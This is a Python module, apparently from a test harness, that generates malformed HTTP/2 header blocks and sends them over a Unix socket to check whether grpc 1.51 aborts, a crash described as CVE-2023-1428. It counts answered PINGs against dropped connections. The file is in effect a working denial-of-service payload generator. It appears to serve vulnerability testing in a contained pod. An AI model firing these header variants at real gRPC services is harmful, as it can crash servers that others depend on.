"""Headers over which grpc 1.51 is said to abort (CVE-2023-1428): `pod.call(oddities.send, path)` runs it in the pod."""
import itertools
import socket
import struct

from .attacker import CONTINUATION, END_HEADERS, HEADERS, PING, PREFACE, SDS, SETTINGS
from .h2 import _frame

# What the parser measures wrongly, then a later header that takes the whole past the limit: 8 KiB by default, 16 KiB here.
ODD = [(b'te', b'x'), (b'te', b''), (b':scheme', b'ftp'), (b':scheme', b''), (b'grpclb_client_stats', b'x'), (b'grpclb_client_stats', b'')]
FORMS = {'plain': b'\x00', 'indexed': b'\x40', 'never indexed': b'\x10'}
SIZES = (8100, 8300, 12000, 16200, 16350, 16500, 17500)


def _length(n):
    """HPACK's, with a prefix of 7 bits."""
    if n < 127:
        return bytes([n])
    out, n = b'\x7f', n - 127
    while n >= 128:
        out, n = out + bytes([n % 128 + 128]), n // 128
    return out + bytes([n])


def _field(form, name, value):
    return form + _length(len(name)) + name + _length(len(value)) + value


def variants():
    for (name, value), form, size, cut in itertools.product(ODD, FORMS.values(), SIZES, (False, True)):
        usual = [(b':method', b'POST'), (b':scheme', b'http'), (b':path', SDS.encode()), (b':authority', b'envoy'), (b'te', b'trailers'),
                 (b'content-type', b'application/grpc')]
        head = b''.join(_field(b'\0', n, v) for n, v in usual if n != name)
        yield head + _field(form, name, value) + _field(form, b'x-large', b'y' * size), cut


def _said(sock):
    """The kinds of frames that came until the answer to our PING, or the end."""
    kinds, heard = [], b''
    while True:
        try:
            more = sock.recv(1 << 16)
        except ConnectionError:
            more = b''
        if not more:
            return [*kinds, 'end']
        heard += more
        while len(heard) >= 9 and len(heard) >= 9 + int.from_bytes(heard[:3], 'big'):
            kinds.append(heard[3])
            if heard[3] == PING:
                return kinds
            heard = heard[9 + int.from_bytes(heard[:3], 'big'):]


def send(path, one, of):
    """One of so many parts of them, each variant on a connection of its own; how many of them grpc answered (PING), and how many connections were ended."""
    answered = ended = 0
    for block, cut in itertools.islice(variants(), one, None, of):
        at = len(block) // 2 if cut else len(block)
        frames = _frame(HEADERS, 0 if cut else END_HEADERS, 1, block[:at])
        if cut:
            frames += _frame(CONTINUATION, END_HEADERS, 1, block[at:])
        with socket.socket(socket.AF_UNIX) as s:
            s.settimeout(60)
            s.connect(str(path))
            try:
                s.sendall(PREFACE + _frame(SETTINGS, 0, 0) + frames + _frame(PING, 0, 0, struct.pack('>Q', 7)))
            except ConnectionError:
                pass
            last = _said(s)[-1]
            answered, ended = answered + (last == PING), ended + (last == 'end')
    return answered, ended
